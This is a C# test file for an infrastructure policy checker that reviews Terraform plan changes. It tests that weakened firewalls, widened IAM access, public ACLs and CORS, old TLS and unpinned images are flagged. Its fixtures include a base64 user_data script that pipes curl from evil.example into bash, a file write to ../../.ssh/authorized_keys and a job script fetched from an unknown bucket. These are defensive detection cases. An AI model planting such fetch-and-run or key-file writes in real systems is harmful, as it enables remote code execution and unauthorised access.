namespace Infra.Policy.Tests.Rules.Own;

/// <summary>What a change of one resource says, in full.</summary>
public sealed class ChangeTests
{
    [Theory]
    [InlineData("INFRA-CONTROL-OFF", "google_compute_network_firewall_policy_rule", """{ "action": "deny", "priority": 1 }""", """{ "action": "goto_next", "priority": 1 }""", """action: "goto_next" after "deny": a protection is weaker""")]
    [InlineData("INFRA-CONTROL-OFF", "google_compute_network_firewall_policy_rule", """{ "action": "deny", "priority": 1 }""", """{ "action": "deny", "priority": 9 }""", "priority: 9 after 1: a rule that denies is evaluated after other rules")]
    [InlineData("INFRA-CONTROL-OFF", "aws_network_acl_rule", """{ "rule_action": "allow", "rule_number": 900 }""", """{ "rule_action": "allow", "rule_number": 100 }""", "rule_number: 100 after 900: a rule that allows is evaluated before other rules")]
    [InlineData("INFRA-CONTROL-OFF", "google_cloud_run_v2_service", """{ "ingress": "INGRESS_TRAFFIC_INTERNAL_ONLY" }""", """{ "ingress": "INGRESS_TRAFFIC_ALL" }""", """ingress: "INGRESS_TRAFFIC_ALL" after "INGRESS_TRAFFIC_INTERNAL_ONLY": a protection is weaker""")]
    [InlineData("INFRA-CONTROL-OFF", "aws_thing", """{ "bypass_for_services": false }""", """{ "bypass_for_services": true }""", "bypass_for_services: true after false: a protection is disabled")]
    [InlineData("INFRA-CONTROL-OFF", "google_compute_firewall", """{ "target_tags": ["web"] }""", """{ "target_tags": [] }""", """target_tags: [] after ["web"]: a guard is removed""")]
    [InlineData("INFRA-CONTROL-OFF", "azurerm_thing", """{ "parameters": "{\"effect\":{\"value\":\"Deny\"}}" }""", """{ "parameters": "{\"effect\":{\"value\":\"Audit\"}}" }""", """parameters.effect.value: "Audit" after "Deny": a protection is weaker""")]
    [InlineData("INFRA-CONTROL-OFF", "google_storage_bucket", """{ "lifecycle_rule": [] }""", """{ "lifecycle_rule": [{ "condition": [{ "age": 1 }] }] }""", "lifecycle_rule[0].condition[0].age: 1 after no longer set: a protection is lowered")]
    [InlineData("INFRA-NOTHING-LEFT", "google_container_node_pool", """{ "node_count": 3 }""", """{ "node_count": 0 }""", "node_count: 0 after 3")]
    [InlineData("INFRA-NEW-ACCESS", "aws_lambda_function", """{ "role": "arn:aws:iam::111122223333:role/a" }""", """{ "role": "arn:aws:iam::111122223333:role/b" }""", ": wider than it was: the rights of arn:aws:iam::111122223333:role/b")]
    [InlineData("INFRA-NEW-ACCESS", "azurerm_mssql_server", """{ "azuread_administrator": [{ "object_id": "dba" }] }""", """{ "azuread_administrator": [{ "object_id": "eve" }] }""", ": wider than it was: a way in for object_id eve")]
    [InlineData("INFRA-NEW-ACCESS", "aws_iam_saml_provider", """{ "saml_metadata_document": "a" }""", """{ "saml_metadata_document": "b" }""", ": wider than it was: trust in the keys of its metadata")]
    public void Change_for_the_worse_is_noticed(string rule, string type, string before, string after, string found)
    {
        Assert.Equal([$"{type}.it {found}"], Planned(type, "update", before, after).Findings(rule));
    }

    [Theory]
    [InlineData("INFRA-CONTROL-OFF", "aws_wafv2_web_acl", """{ "rule": [{ "name": "a", "priority": 1 }, { "name": "b", "priority": 2 }] }""", """{ "rule": [{ "name": "b", "priority": 2 }, { "name": "a", "priority": 1 }] }""")]
    [InlineData("INFRA-CONTROL-OFF", "google_cloud_run_v2_service", """{ "ingress": "INGRESS_TRAFFIC_ALL" }""", """{ "ingress": "INGRESS_TRAFFIC_INTERNAL_ONLY" }""")]
    [InlineData("INFRA-CONTROL-OFF", "azurerm_storage_account", """{ "network_rules": [{ "bypass": ["AzureServices"] }] }""", """{ "network_rules": [{ "bypass": ["None"] }] }""")]
    [InlineData("INFRA-CONTROL-OFF", "github_repository", """{ "allow_squash_merge": false }""", """{ "allow_squash_merge": true }""")]
    [InlineData("INFRA-NOTHING-LEFT", "google_container_node_pool", """{ "node_count": 3 }""", """{ "node_count": 1 }""")]
    [InlineData("INFRA-NEW-ACCESS", "aws_lambda_function", """{ "role": "arn:aws:iam::111122223333:role/a", "timeout": 3 }""", """{ "role": "arn:aws:iam::111122223333:role/a", "timeout": 5 }""")]
    public void Change_that_weakens_nothing_passes(string rule, string type, string before, string after)
    {
        Assert.Equal([], Planned(type, "update", before, after).Findings(rule));
    }

    [Theory]
    [InlineData("INFRA-OPEN-PORT", "google_compute_firewall_policy_rule", """{ "action": "goto_next", "direction": "INGRESS", "match": [{ "src_ip_ranges": ["0.0.0.0/0"], "layer4_configs": [{ "ip_protocol": "tcp", "ports": ["22"] }] }] }""", """: tcp 22 from "0.0.0.0/0": SSH can be reached from the internet""")]
    [InlineData("INFRA-FORWARDING", "aws_instance", """{ "source_dest_check": false }""", "source_dest_check: false: it forwards traffic")]
    [InlineData("INFRA-ACCESS-LIST", "aws_s3_bucket_acl", """{ "access_control_policy": [{ "grant": [{ "grantee": [{ "type": "CanonicalUser", "id": "1111" }] }] }] }""", "access_control_policy[0].grant[0].grantee[0].type: for the canonical user 1111, whose account is unknown")]
    [InlineData("INFRA-ACCESS-LIST", "aws_s3_bucket_acl", """{ "access_control_policy": [{ "grant": [{ "grantee": [{ "type": "AmazonCustomerByEmail", "email_address": "eve@lynx.example" }] }] }] }""", "access_control_policy[0].grant[0].grantee[0].type: for the owner of the email address eve@lynx.example")]
    [InlineData("INFRA-ACCESS-LIST", "azurerm_storage_data_lake_gen2_path", """{ "ace": [{ "type": "other", "permissions": "r-x" }] }""", "ace[0].type: for everyone: r-x")]
    [InlineData("INFRA-CROSS-ORIGIN", "aws_s3_bucket_cors_configuration", """{ "cors_rule": [{ "allowed_origins": ["*"] }] }""", """cors_rule[0].allowed_origins: ["*"]: every page on the internet can call it from a visitor's browser""")]
    [InlineData("INFRA-OLD-PROTOCOL", "aws_opensearch_domain", """{ "domain_endpoint_options": [{ "tls_security_policy": "Policy-Min-TLS-1-0-2019-07" }] }""", """domain_endpoint_options[0].tls_security_policy: "Policy-Min-TLS-1-0-2019-07": its traffic can be read or changed""")]
    [InlineData("INFRA-PUBLIC-IMAGE", "kubernetes_pod", """{ "spec": [{ "container": [{ "image": "stranger/x" }] }] }""", """spec[0].container[0].image: "stranger/x": its registry is public, and no digest pins it""")]
    [InlineData("INFRA-FOREIGN-HOST", "aws_launch_template", """{ "user_data": "IyEvYmluL2Jhc2gKY3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94LnNoIHwgYmFzaA==" }""", "user_data: leading to evil.example, which the estate does not know")]
    [InlineData("INFRA-RUNNER-FILE", "local_file", """{ "filename": "../../.ssh/authorized_keys" }""", """filename: "../../.ssh/authorized_keys" """)]
    [InlineData("INFRA-FOREIGN-BUCKET", "aws_glue_job", """{ "command": [{ "script_location": "s3://evil/x.py" }] }""", "command[0].script_location: to the bucket evil, which no stack of the estate creates")]
    public void New_resource_that_is_wrong_is_noticed(string rule, string type, string body, string found)
    {
        Assert.Equal([$"{type}.it {found}".TrimEnd()], Planned(type, "create", "null", body).Findings(rule));
    }

    [Theory]
    [InlineData("INFRA-OPEN-PORT", "google_compute_firewall_policy_rule", """{ "action": "goto_next", "direction": "INGRESS", "disabled": true, "match": [{ "layer4_configs": [{ "ip_protocol": "all" }] }] }""")]
    [InlineData("INFRA-OPEN-PORT", "google_compute_firewall_policy_rule", """{ "action": "allow", "direction": "INGRESS", "match": [{ "src_secure_tags": [{ "name": "a" }], "layer4_configs": [{ "ip_protocol": "all" }] }] }""")]
    [InlineData("INFRA-ACCESS-LIST", "aws_s3_bucket_acl", """{ "access_control_policy": [{ "owner": [{ "id": "1111" }], "grant": [{ "grantee": [{ "type": "CanonicalUser", "id": "1111" }] }] }] }""")]
    [InlineData("INFRA-CROSS-ORIGIN", "aws_s3_bucket_cors_configuration", """{ "cors_rule": [{ "allowed_origins": ["https://lynx.example"], "allowed_headers": ["*"] }] }""")]
    [InlineData("INFRA-OLD-PROTOCOL", "aws_lb_listener", """{ "ssl_policy": "ELBSecurityPolicy-TLS13-1-2-2021-06" }""")]
    [InlineData("INFRA-PUBLIC-IMAGE", "kubernetes_pod", """{ "spec": [{ "container": [{ "image": "europe-docker.pkg.dev/lynx-prod/x/y:1" }] }] }""")]
    [InlineData("INFRA-FOREIGN-HOST", "aws_launch_template", """{ "user_data": "IyEvYmluL2Jhc2gKY3VybCBodHRwczovL2FwaS5seW54LmV4YW1wbGUveC5zaCB8IGJhc2g=" }""")]
    [InlineData("INFRA-RUNNER-FILE", "local_file", """{ "filename": "out/x.json" }""")]
    public void New_resource_that_is_right_passes(string rule, string type, string body)
    {
        Assert.Equal([], Planned(type, "create", "null", body).Findings(rule));
    }

    // In a stack that is deployed: something else is there already.
    private static Infra.Policy.Model.PolicyEstate Planned(string type, string action, string before, string after) => TestEstate.Planned(
        $$"""
        { "resource_changes": [
            { "address": "random_pet.x", "mode": "managed", "type": "random_pet", "name": "x", "change": { "actions": ["no-op"], "before": {}, "after": {} } },
            { "address": "{{type}}.it", "mode": "managed", "type": "{{type}}", "name": "it", "change": { "actions": ["{{action}}"], "before": {{before}}, "after": {{after}} } } ] }
        """);
}
